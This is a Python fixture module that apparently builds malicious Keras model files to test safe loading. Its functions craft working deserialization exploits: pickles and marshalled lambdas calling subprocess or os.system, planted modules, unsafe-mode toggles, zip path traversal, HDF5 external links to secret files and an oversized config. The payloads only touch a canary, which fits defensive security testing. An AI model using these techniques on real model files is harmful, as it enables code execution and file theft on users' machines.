"""Files of a stranger: each would run code, write elsewhere or read elsewhere if it were opened carelessly.

An attack on a `.keras` file is a function of the folder that it may use and of the canary, a path that must
stay free. It changes the config and the members of an honest file, or returns another file altogether.
"""

import json
import pathlib
import pickle
import subprocess
import zipfile

import h5py
import keras
import numpy as np
import tensorflow as tf
from keras.src.utils import python_utils


class Touch:
    """Leaves the canary when it is unpickled."""

    def __init__(self, canary):
        self.canary = canary

    def __reduce__(self):
        return subprocess.call, (["touch", str(self.canary)],)


def pickled(canary):
    return pickle.dumps(Touch(canary))


def object_array(canary):
    """An array that NumPy can only unpickle."""
    array = np.empty(1, dtype=object)
    array[0] = Touch(canary)
    return array


def honest_network():
    return keras.Sequential([keras.Input((3,)), keras.layers.Dense(3, name="first")])


def rewritten(path, change=None, members=None, honest=honest_network):
    """An honest `.keras` file whose config was changed, or that has other members."""
    honest().save(path)
    with zipfile.ZipFile(path) as archive:
        content = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(content["config.json"])
    if change is not None:
        change(config)
    content["config.json"] = json.dumps(config).encode()
    content.update(members or {})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in content.items():
            if data is not None:
                archive.writestr(name, data)
    return path


def touching(canary):
    """The code of a function that leaves the canary when it is called, as Keras stores it."""
    scope = {}
    source = f"f = lambda *x, **y: (__import__('os').system('touch {canary}'), x[0] if x else 0)[1]"
    exec(source, scope)
    code, defaults, closure = python_utils.func_dump(scope["f"])
    inner = {"code": code, "defaults": defaults, "closure": closure}
    return {"class_name": "__lambda__", "config": {**inner, "value": code}}


def lambda_layer(function, **config):
    """A layer that calls a function."""
    own = {"name": "evil", "trainable": True, "dtype": "float32", "arguments": {}}
    config = {**own, "function": function, **config}
    place = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None}
    return {**place, "config": config, "build_config": {"input_shape": [None, 3]}}


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def add_layer(layer):
    """A change of the config: one layer more, at the end."""
    return lambda config: config["config"]["layers"].append(layer)


def set_dense(**values):
    """A change of the config: other arguments of the honest layer."""
    return lambda config: config["config"]["layers"][1]["config"].update(values)


# -- .keras files -------------------------------------------------------------------------------


def marshalled_lambda(folder, canary):
    return rewritten(folder / "model.keras", add_layer(lambda_layer(touching(canary))))


def marshalled_output_shape(folder, canary):
    layer = lambda_layer(function("keras.ops", "relu"), output_shape=touching(canary))
    return rewritten(folder / "model.keras", add_layer(layer))


def lambda_as_initializer(folder, canary):
    return rewritten(folder / "model.keras", set_dense(kernel_initializer=touching(canary)))


def lambda_in_compile_config(folder, canary):
    def change(config):
        config["compile_config"] = {"optimizer": "sgd", "loss": touching(canary)}

    return rewritten(folder / "model.keras", change)


def lambda_inside_a_method(folder, canary):
    import valen_tf as vt

    def change(config):
        layers = config["config"]["classifier"]["config"]["layers"]
        layers[1]["config"]["activation"] = touching(canary)

    def honest():
        return vt.methods.Proden(vt.networks.linear((3,), 3))

    return rewritten(folder / "model.keras", change, honest=honest)


def function_of_os(folder, canary):
    return rewritten(folder / "model.keras", set_dense(activation=function("os", "system")))


def class_of_subprocess(folder, canary):
    process = {"module": "subprocess", "class_name": "Popen", "registered_name": "Popen"}
    process["config"] = {"args": ["touch", str(canary)]}
    return rewritten(folder / "model.keras", set_dense(kernel_initializer=process))


def module_beside_the_file(folder, canary):
    """A module that the file names, in a folder from which Python imports."""
    (folder / "stranger.py").write_text(f"open({str(canary)!r}, 'w').close()")
    thing = {"module": "stranger", "class_name": "Thing", "registered_name": "Thing", "config": {}}
    return rewritten(folder / "model.keras", add_layer(thing))


def module_of_a_trusted_name(folder, canary):
    """As above, under a name whose modules Keras itself imports."""
    (folder / "keras_hub.py").write_text(f"open({str(canary)!r}, 'w').close()")
    thing = {"module": "keras_hub", "class_name": "Thing", "registered_name": "Thing", "config": {}}
    return rewritten(folder / "model.keras", add_layer(thing))


def download_by_keras(folder, canary):
    (folder / "payload").write_text("x")
    target = {"origin": (folder / "payload").as_uri(), "cache_dir": str(canary.parent)}
    layer = lambda_layer(function("keras.utils", "get_file"), arguments=target)
    return rewritten(folder / "model.keras", add_layer(layer))


def figure_by_keras(folder, canary):
    """A function of Keras that writes a file where its argument says, when the model predicts."""
    image = {"module": "keras.layers", "class_name": "Reshape", "registered_name": None}
    image["config"] = {"target_shape": [1, 1, 3]}
    arguments = {"value_range": [0, 1], "rows": 1, "cols": 1, "path": f"{canary}.png"}
    layer = lambda_layer(function("keras.visualization", "plot_image_gallery"), arguments=arguments)

    def change(config):
        config["config"]["layers"] += [image, layer]
        config["compile_config"] = {"optimizer": "sgd", "loss": "mse", "run_eagerly": True}

    return rewritten(folder / "model.keras", change)


def figure_by_a_metric(folder, canary):
    """The same as a metric, which calls its function with arguments from the file."""
    wrapped = {"module": "keras.metrics", "class_name": "MeanMetricWrapper"}
    wrapped["config"] = {
        "fn": function("keras.visualization", "plot_image_gallery"),
        "path": f"{canary}.png",
    }

    def change(config):
        config["compile_config"] = {"optimizer": "sgd", "loss": "mse", "metrics": [wrapped]}

    return rewritten(folder / "model.keras", change)


def safe_mode_off(folder, canary):
    def change(config):
        config["config"]["layers"] += [
            lambda_layer(function("keras.config", "enable_unsafe_deserialization")),
            lambda_layer(touching(canary)),
        ]

    return rewritten(folder / "model.keras", change)


def foreign_saved_model(folder, canary):
    """A layer that runs a SavedModel, whose graph writes a file."""

    class Writes(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 3])])
        def serve(self, x):
            with tf.control_dependencies([tf.io.write_file(str(canary), "x")]):
                return tf.identity(x)

    module = Writes()
    tf.saved_model.save(module, str(folder / "saved"), {"serving_default": module.serve})
    layer = {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None}
    layer["config"] = {"filepath": str(folder / "saved"), "call_endpoint": "serving_default"}
    return rewritten(folder / "model.keras", add_layer(layer))


def file_as_vocabulary(folder, canary):
    """A layer that reads a file elsewhere, which would be found in the loaded model."""
    (folder / "secret.txt").write_text("secret\n")
    layer = {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None}
    layer["config"] = {"vocabulary": str(folder / "secret.txt")}
    return rewritten(folder / "model.keras", add_layer(layer))


def pickled_torch_module(folder, canary):
    layer = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None}
    layer["config"] = {"module": {"__class_name__": "x", "__pickle__": pickled(canary).hex()}}
    return rewritten(folder / "model.keras", add_layer(layer))


def members_outside(folder, canary):
    """Names that lead out of the folder where Keras unpacks the file."""
    outside = {f"assets/{'../' * n}{canary.name}": b"x" for n in range(1, 5)}
    outside |= {f"{'../' * n}{canary.name}": b"x" for n in range(1, 5)}
    return rewritten(folder / "model.keras", members={**outside, str(canary): b"x"})


def pickle_for_weights(folder, canary):
    npz = folder / "weights.npz"
    np.savez(npz, allow_pickle=True, first=object_array(canary))
    weights = {"model.weights.h5": None, "model.weights.npz": npz.read_bytes()}
    return rewritten(folder / "model.keras", members=weights)


def weights_by_a_link(folder, canary):
    """Weights that lie in another HDF5 file, whose contents would be found in the loaded model."""
    honest_network().save_weights(folder / "secret.weights.h5")
    with h5py.File(folder / "linking.h5", "w") as file:
        file["layers"] = h5py.ExternalLink(str(folder / "secret.weights.h5"), "/layers")
    linking = (folder / "linking.h5").read_bytes()
    return rewritten(folder / "model.keras", members={"model.weights.h5": linking})


def pickle_under_its_name(folder, canary):
    (folder / "model.keras").write_bytes(pickled(canary))
    return folder / "model.keras"


def folder_under_its_name(folder, canary):
    """Keras also opens a folder with a config; this one has a pickle for weights."""
    path = folder / "model.keras"
    path.mkdir()
    config = keras.saving.serialize_keras_object(honest_network())
    (path / "config.json").write_text(json.dumps(config))
    np.savez(path / "model.weights.npz", allow_pickle=True, first=object_array(canary))
    return path


def config_of_a_gigabyte(folder, canary):
    return rewritten(folder / "model.keras", members={"config.json": b" " * 10**9})


KERAS_FILES = [
    marshalled_lambda,
    marshalled_output_shape,
    lambda_as_initializer,
    lambda_in_compile_config,
    lambda_inside_a_method,
    function_of_os,
    class_of_subprocess,
    module_beside_the_file,
    module_of_a_trusted_name,
    download_by_keras,
    figure_by_keras,
    figure_by_a_metric,
    safe_mode_off,
    foreign_saved_model,
    file_as_vocabulary,
    pickled_torch_module,
    members_outside,
    pickle_for_weights,
    weights_by_a_link,
    pickle_under_its_name,
    folder_under_its_name,
    config_of_a_gigabyte,
]


def legacy_file(folder, canary):
    """A Lambda layer in the former format of Keras, whose reader is another one."""
    path = pathlib.Path(folder, "model.h5")
    config = json.loads(honest_network().to_json())
    config["config"]["layers"].append(lambda_layer(touching(canary)))
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"], file.attrs["backend"] = "3.15.1", "tensorflow"
        file.create_group("model_weights")
    return path
